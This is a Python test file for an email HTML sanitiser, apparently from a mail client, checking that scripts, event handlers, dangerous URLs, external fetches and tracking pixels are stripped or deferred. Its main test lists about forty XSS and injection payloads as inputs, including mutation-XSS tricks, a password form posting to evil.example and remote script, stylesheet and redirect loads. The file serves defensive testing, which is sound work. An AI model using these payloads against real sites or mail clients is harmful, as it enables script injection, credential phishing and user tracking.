import re

import pytest

from interactions.adapters.email.html import sanitised
from interactions.adapters.email.plain import text_of

HARMLESS = re.compile(
    r"(?:[^<]|</?(?!script|style|form|base|meta|iframe|svg|math|input|button|link|object|embed)\w+[^<>]*>)*"
)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>x",
        "<scr<script>ipt>alert(1)</scr</script>ipt>x",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<script>alert(1)",
        '<img src=x onerror="alert(1)">',
        "<img src=x onerror=alert(1)//",
        "<img/src=x/onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" \x01javascript:alert(1)">x</a>',
        '<a href="vbscript:x">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        "<svg onload=alert(1)><script>1</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
        '<form action="https://evil.example"><input name=password><button>Go</button></form>',
        '<base href="https://evil.example/">',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="x"></object><embed src="x">',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        "<style>@import url(https://evil.example)</style>",
        '<div style="position:fixed;top:0;background:url(https://evil.example)">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        '<div style="color:red;background-image:u\\72l(https://evil.example)">x</div>',
        '<div hx-get="/x" data-hx-get="/x" data-remote="https://evil.example" _="on load x" ws-connect="/">x</div>',
        '<div id="desk" name="csrf" class="offer">x</div>',
        '<img id=getElementById name=cookie src="cid:x">',
        '<img srcset="https://evil.example/x 1x" src="cid:x">',
        '<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>',
        '<table background="https://evil.example/x"><tr><td background="https://evil.example">x</table>',
        "<!--[if mso]><script>alert(1)</script><![endif]-->x",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
        '<a title="><img src=x onerror=alert(1)>" href="/relative">x</a>',
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        "<p title='a\"><script>alert(1)</script>'>x</p>",
    ],
)  # fmt: skip
def test_s24_nothing_acts_and_nothing_is_fetched(html):
    safe = sanitised(html)
    assert HARMLESS.fullmatch(safe), safe
    for tag in re.findall(r"<\w[^>]*>", safe):
        names = set(re.findall(r"\s([\w:-]+)=", re.sub(r'"[^"]*"', '""', tag)))
        assert names <= {"href", "src", "alt", "title", "style", "target", "rel"}, tag
        for url in re.findall(r'(?:href|src)="([^"]*)"', tag):
            assert url.startswith(("http://", "https://", "mailto:", "tel:", "cid:")), tag
        for style in re.findall(r'style="([^"]*)"', tag):
            assert "url" not in style
            assert "position" not in style
            assert "(" not in style


def test_s32_links_open_apart_and_tell_nothing():
    safe = sanitised('<a href="https://shop.example/a?b=1&c=2" target="desk" rel="opener">Shop</a>')
    assert safe == '<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener nofollow">Shop</a>'
    assert 'href="tel:+31"' in sanitised('<a href="tel:+31">call</a>')


def test_pictures_of_others_wait_until_they_are_asked_for():
    safe = sanitised('<img src="https://track.example/p.gif?x=1" width="1" alt="a"><img SRC=http://x.example/y>')
    assert "src=" not in safe
    assert 'data-remote="https://track.example/p.gif?x=1"' in safe
    assert 'data-remote="http://x.example/y"' in safe


def test_pictures_that_came_with_the_mail_are_shown():
    assert 'src="cid:logo@x"' in sanitised('<img src="CID:%6cogo@x">')


def test_looks_that_mails_need_are_kept():
    html = '<table width="600"><tr><td style="color:#f00;padding:4px" bgcolor="#eee" colspan="2">x</td></tr></table>'
    safe = sanitised(html)
    assert 'style="color:#f00;padding:4px"' in safe
    assert 'bgcolor="#eee"' in safe
    assert 'width="600"' in safe


def test_badly_nested_html_keeps_its_words_in_order():
    safe = sanitised("<p>a<b>b<p>c</b>d<table><td>e<td>f<tr><td>g</table>h<ul><li>i<li>j</ul>k")
    assert re.sub(r"<[^>]*>", "", safe) == "abcdefghijk"


def test_html_as_text():
    html = (
        "<h1>Order</h1><p>Hello&nbsp;&amp; <i>welcome</i>,</p><p>See <a href='https://shop.example/1'>your order</a> or "
        "<a href='https://shop.example'>shop.example</a></p><ol><li>one<li>two</ol><pre>a\n  b</pre>"
        "<table><tr><td>x</td><td>y</td></tr><tr><td>z</td></tr></table>"
    )
    assert text_of(sanitised(html)) == (
        "Order\n\nHello & welcome,\n\nSee your order <https://shop.example/1> or shop.example\n\n1. one\n2. two\n\n"
        "a\n  b\n\nx y\nz"
    )


def test_where_another_mail_begins_is_marked():
    safe = sanitised('<p>Fine.</p><div id="divRplyFwdMsg"><b>From:</b> Maya</div>')
    assert '<hr class="quoted">' in safe
    assert text_of(safe) == f"Fine.\n\n{'_' * 32}\nFrom: Maya"
